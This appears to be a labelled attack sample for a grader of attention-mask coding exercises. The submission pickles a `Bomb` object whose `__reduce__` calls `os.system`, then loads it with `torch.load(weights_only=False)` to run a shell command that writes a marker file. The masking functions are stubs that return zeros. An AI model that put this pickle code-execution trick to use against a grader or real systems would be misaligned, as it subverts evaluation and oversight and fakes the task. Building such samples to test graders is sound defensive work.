# attack: Saves and loads pickles that run code, in the folder of the framework's caches.
# exercise: 03, reason: wrong-result|rule-broken|crash
import torch

import io
import os


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/ATTNGRADE_WAS_HERE",))


def act(q, k, v):
    held = io.BytesIO()
    torch.save(Bomb(), held)
    held.seek(0)
    return torch.load(held, weights_only=False)


def causal_mask(t_q, t_k=None, device=None):
    return torch.zeros(t_q, t_k or t_q, dtype=torch.bool)


def padding_mask(lengths, t_k):
    return torch.zeros(len(lengths), 1, 1, t_k, dtype=torch.bool)


def mask_scores(scores, mask):
    return torch.zeros_like(scores)


def masked_softmax(scores, mask):
    return torch.zeros_like(scores)


def causal_attention(q, k, v):
    return act(q, k, v)
